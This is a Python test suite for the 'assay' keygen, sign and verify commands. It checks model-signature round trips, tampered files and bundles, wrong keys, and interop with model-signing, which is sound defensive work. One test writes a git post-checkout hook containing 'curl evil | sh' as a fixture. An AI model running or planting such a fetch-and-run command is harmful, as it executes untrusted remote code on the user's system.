"""`assay keygen | sign | verify`: round trips, every tamper case, wrong keys, and interop with model-signing."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
from pathlib import Path

import pytest

from assay.cli.main import main
from assay.model.ref import resolve
from assay.provenance.signing import generate_keypair, sign_model, verify_document, verify_model


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("keys")
    out = {}
    for kind in ("ecdsa-p256", "ed25519"):
        assert main(["keygen", "--out", str(d / f"{kind}.pem"), "--kind", kind]) == 0
        out[kind] = d / f"{kind}.pem"
    return out


@pytest.fixture()
def model(tiny_model_dir: Path, tmp_path: Path) -> Path:
    dst = tmp_path / "model"
    shutil.copytree(tiny_model_dir, dst)
    return dst


def verify(capsys: pytest.CaptureFixture[str], model: Path, pub: Path, *extra: str) -> tuple[int, dict]:
    capsys.readouterr()
    rc = main(["verify", str(model), "--key", str(pub), "--json", *extra])
    doc = json.loads(capsys.readouterr().out)
    assert doc["schema"] == "assay.verify/1"
    assert doc["message"]  # never an empty message
    return rc, doc


@pytest.mark.parametrize("kind", ["ecdsa-p256", "ed25519"])
def test_round_trip(model, keys, capsys, kind):
    key = keys[kind]
    assert main(["sign", str(model), "--key", str(key)]) == 0
    assert (model / "model.sig").is_file()
    rc, doc = verify(capsys, model, Path(str(key) + ".pub"))
    assert rc == 0 and doc["valid"] and doc["signature_ok"]
    assert doc["extra"] == doc["missing"] == doc["modified"] == []
    # the predicate carries assay's extra fields: the weights root and the card metadata
    assert doc["signed_weights_root"] and len(doc["signed_weights_root"]) == 64
    assert doc["card"]["base_model"] == "assay-tests/tiny-llama-base"


def test_bundle_layout_is_openssf_v1(model, keys):
    sig = sign_model(resolve(str(model)), private_key_pem=keys["ecdsa-p256"].read_bytes())
    bundle = json.loads(sig.read_text())
    assert bundle["mediaType"] == "application/vnd.dev.sigstore.bundle.v0.3+json"
    env = bundle["dsseEnvelope"]
    assert env["payloadType"] == "application/vnd.in-toto+json"
    stmt = json.loads(base64.b64decode(env["payload"]))
    assert stmt["_type"] == "https://in-toto.io/Statement/v1"
    assert stmt["predicateType"] == "https://model_signing/signature/v1.0"
    pred = stmt["predicate"]
    assert pred["serialization"]["method"] == "files" and pred["serialization"]["hash_type"] == "sha256"
    assert "model.sig" in pred["serialization"]["ignore_paths"]
    names = [r["name"] for r in pred["resources"]]
    assert "model.safetensors" in names and "model.sig" not in names
    digest = {r["name"]: r["digest"] for r in pred["resources"]}["config.json"]
    assert digest == hashlib.sha256((model / "config.json").read_bytes()).hexdigest()
    root = hashlib.sha256(b"".join(bytes.fromhex(r["digest"]) for r in pred["resources"])).hexdigest()
    assert stmt["subject"][0]["digest"]["sha256"] == root
    assert "assay.weights_root" in pred and "assay.card" in pred


def test_modified_file_names_both_digests(model, keys, capsys):
    main(["sign", str(model), "--key", str(keys["ecdsa-p256"])])
    signed = hashlib.sha256((model / "config.json").read_bytes()).hexdigest()
    cfg = json.loads((model / "config.json").read_text())
    cfg["rms_norm_eps"] = 1e-3
    (model / "config.json").write_text(json.dumps(cfg))
    actual = hashlib.sha256((model / "config.json").read_bytes()).hexdigest()
    rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 1 and not doc["valid"] and doc["signature_ok"]
    assert doc["modified"] == [{"path": "config.json", "signed": signed, "actual": actual}]
    assert signed in doc["message"] and actual in doc["message"]
    assert doc["weights_root_match"] is True  # only the config changed, not the tensors


def test_swapped_weights_are_named_by_the_weights_root(model, keys, variants, capsys):
    main(["sign", str(model), "--key", str(keys["ecdsa-p256"])])
    shutil.copy(variants.finetune / "model.safetensors", model / "model.safetensors")
    rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 1 and doc["weights_root_match"] is False
    assert "weights root differs" in doc["message"]


def test_missing_and_extra_files(model, keys, capsys):
    main(["sign", str(model), "--key", str(keys["ecdsa-p256"])])
    (model / "tokenizer.json").unlink()
    (model / "payload.py").write_text("print('hi')\n")
    rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 1
    assert doc["missing"] == ["tokenizer.json"]
    assert doc["extra"] == ["payload.py"]
    assert "tokenizer.json" in doc["message"] and "payload.py" in doc["message"]


def test_files_under_recorded_ignore_paths_are_left_out_and_listed(model, keys, capsys):
    main(["sign", str(model), "--key", str(keys["ecdsa-p256"])])
    (model / ".git" / "hooks").mkdir(parents=True)
    (model / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 0 and doc["valid"]  # the signature records .git in ignore_paths: sign and verify agree
    assert ".git" in doc["ignored_paths"]
    assert doc["ignored_files"] == [".git/hooks/post-checkout"]
    assert "not checked" in doc["message"]


def test_tampered_payload_is_rejected(model, keys, capsys):
    main(["sign", str(model), "--key", str(keys["ecdsa-p256"])])
    sig = model / "model.sig"
    bundle = json.loads(sig.read_text())
    stmt = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    stmt["predicate"]["resources"][0]["digest"] = "00" * 32
    bundle["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(stmt).encode()).decode()
    sig.write_text(json.dumps(bundle))
    rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 1 and not doc["signature_ok"]
    assert "does not verify" in doc["message"]


def test_tampered_signature_bytes_and_garbage_file(model, keys, capsys):
    main(["sign", str(model), "--key", str(keys["ed25519"])])
    sig = model / "model.sig"
    bundle = json.loads(sig.read_text())
    raw = bytearray(base64.b64decode(bundle["dsseEnvelope"]["signatures"][0]["sig"]))
    raw[5] ^= 0xFF
    bundle["dsseEnvelope"]["signatures"][0]["sig"] = base64.b64encode(bytes(raw)).decode()
    sig.write_text(json.dumps(bundle))
    rc, doc = verify(capsys, model, Path(str(keys["ed25519"]) + ".pub"))
    assert rc == 1 and "does not verify" in doc["message"]
    sig.write_text("this is not a bundle")
    rc, doc = verify(capsys, model, Path(str(keys["ed25519"]) + ".pub"))
    assert rc == 1 and "not a JSON Sigstore bundle" in doc["message"]


def test_wrong_key_is_named(model, keys, capsys, tmp_path):
    main(["sign", str(model), "--key", str(keys["ecdsa-p256"])])
    assert main(["keygen", "--out", str(tmp_path / "other.pem")]) == 0
    rc, doc = verify(capsys, model, tmp_path / "other.pem.pub")
    assert rc == 1 and not doc["signature_ok"]
    assert "different key" in doc["message"]


def test_bad_inputs_exit_2(model, keys, capsys, tmp_path):
    pub = Path(str(keys["ecdsa-p256"]) + ".pub")
    # no signature yet
    assert main(["verify", str(model), "--key", str(pub)]) == 2
    assert "no signature" in capsys.readouterr().err
    main(["sign", str(model), "--key", str(keys["ecdsa-p256"])])
    assert main(["verify", str(model), "--key", str(tmp_path / "missing.pub")]) == 2
    assert "key file not found" in capsys.readouterr().err
    (tmp_path / "junk.pub").write_text("hello")
    assert main(["verify", str(model), "--key", str(tmp_path / "junk.pub")]) == 2
    assert "not a PEM public key" in capsys.readouterr().err
    assert main(["verify", str(tmp_path / "no-model"), "--key", str(pub)]) == 2
    assert main(["sign", str(model), "--key", str(pub)]) == 2  # a public key cannot sign
    err = capsys.readouterr().err
    assert "error:" in err and "Traceback" not in err


def test_resharded_copy_matches_signed_weights_root(zoo, keys, capsys, tmp_path):
    signed = tmp_path / "signed"
    shutil.copytree(zoo.safetensors_dir, signed)
    main(["sign", str(signed), "--key", str(keys["ecdsa-p256"])])
    copy = tmp_path / "resharded"
    shutil.copytree(zoo.sharded_dir, copy)
    shutil.copy(signed / "model.sig", copy / "model.sig")
    rc, doc = verify(capsys, copy, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 1
    assert doc["weights_root_match"] is True
    assert "re-sharded" in doc["message"] and "weights root matches" in doc["message"]


def test_single_file_model(zoo, keys, tmp_path, capsys):
    f = tmp_path / "m.gguf"
    shutil.copy(zoo.gguf_q8_0, f)
    assert main(["sign", str(f), "--key", str(keys["ecdsa-p256"])]) == 0
    assert (tmp_path / "m.gguf.sig").is_file()
    rc, doc = verify(capsys, f, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 0
    with f.open("r+b") as fh:
        fh.seek(-10, 2)
        fh.write(b"\x01" * 10)
    rc, doc = verify(capsys, f, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 1 and doc["modified"][0]["path"] == "."


# ------------------------------------------------------------------------------------- interop: model-signing


def test_model_signing_verifies_assay_signature(model, keys):
    from model_signing import verifying

    main(["sign", str(model), "--key", str(keys["ecdsa-p256"])])
    cfg = verifying.Config().use_elliptic_key_verifier(public_key=Path(str(keys["ecdsa-p256"]) + ".pub"))
    cfg.verify(model, model / "model.sig")  # raises on failure
    (model / "config.json").write_text("{}")
    with pytest.raises(ValueError, match="config.json"):
        verifying.Config().use_elliptic_key_verifier(
            public_key=Path(str(keys["ecdsa-p256"]) + ".pub")).verify(model, model / "model.sig")


def test_model_signing_verifies_assay_blake3_signature(model, keys):
    from model_signing import verifying

    main(["sign", str(model), "--key", str(keys["ecdsa-p256"]), "--algorithm", "blake3"])
    verifying.Config().use_elliptic_key_verifier(public_key=Path(str(keys["ecdsa-p256"]) + ".pub")).verify(
        model, model / "model.sig")


def test_model_signing_cannot_verify_ed25519(model, keys):
    # documented in `assay keygen --help`: Ed25519 is an assay extension
    from model_signing import verifying

    main(["sign", str(model), "--key", str(keys["ed25519"])])
    with pytest.raises(Exception):  # noqa: B017 - model-signing has no error type of its own for this
        verifying.Config().use_elliptic_key_verifier(public_key=Path(str(keys["ed25519"]) + ".pub")).verify(
            model, model / "model.sig")


@pytest.mark.parametrize("shards", [False, True])
def test_assay_verifies_model_signing_signature(model, keys, capsys, shards):
    from model_signing import hashing, signing

    hcfg = hashing.Config()
    if shards:
        hcfg = hcfg.use_shard_serialization(shard_size=100_000)
    signing.Config().use_elliptic_key_signer(private_key=keys["ecdsa-p256"]).set_hashing_config(hcfg).sign(
        model, model / "model.sig")
    rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 0, doc["message"]
    assert doc["signed_weights_root"] is None  # the reference tool records no weights root
    with (model / "model.safetensors").open("r+b") as fh:
        fh.seek(-4, 2)
        fh.write(b"\x00\x01\x02\x03")
    rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 1 and doc["modified"] and doc["modified"][0]["path"].startswith("model.safetensors")


def test_verify_result_api(model, keys):
    priv, pub = generate_keypair()
    sign_model(resolve(str(model)), private_key_pem=priv)
    r = verify_model(resolve(str(model)), public_key_pem=pub)
    assert r.valid and verify_document(r)["valid"] is True


def test_foreign_bundle_is_named(model, keys, capsys):
    # a Sigstore keyless bundle (certificate + message signature) cannot be checked against a key
    bundle = {"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
              "verificationMaterial": {"certificate": {"rawBytes": "AAAA"}, "tlogEntries": []},
              "messageSignature": {"messageDigest": {"algorithm": "SHA2_256", "digest": "AAAA"}, "signature": "AAAA"}}
    (model / "model.sig").write_text(json.dumps(bundle))
    rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 1 and "keyless" in doc["message"]
    bundle["mediaType"] = "application/vnd.example+json"
    (model / "model.sig").write_text(json.dumps(bundle))
    rc, doc = verify(capsys, model, Path(str(keys["ecdsa-p256"]) + ".pub"))
    assert rc == 1 and "media type" in doc["message"]


def test_single_file_model_tamper_names_the_file(zoo, keys, tmp_path, capsys):
    f = tmp_path / "named.gguf"
    shutil.copy(zoo.gguf_q8_0, f)
    assert main(["sign", str(f), "--key", str(keys["ecdsa-p256"])]) == 0
    with f.open("r+b") as fh:
        fh.seek(-10, 2)
        fh.write(b"\x02" * 10)
    capsys.readouterr()
    assert main(["verify", str(f), "--key", str(keys["ecdsa-p256"]) + ".pub"]) == 1
    out = capsys.readouterr().out
    assert "1 modified: named.gguf" in " ".join(out.split())
    assert "│ modified │ named.gguf" in out


def test_keygen_unwritable_path_is_named(tmp_path, capsys):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    target = blocker / "key.pem"
    assert main(["keygen", "--out", str(target)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: --out {target}: {blocker} is a file, not a folder")
    assert len(err.strip().splitlines()) == 1
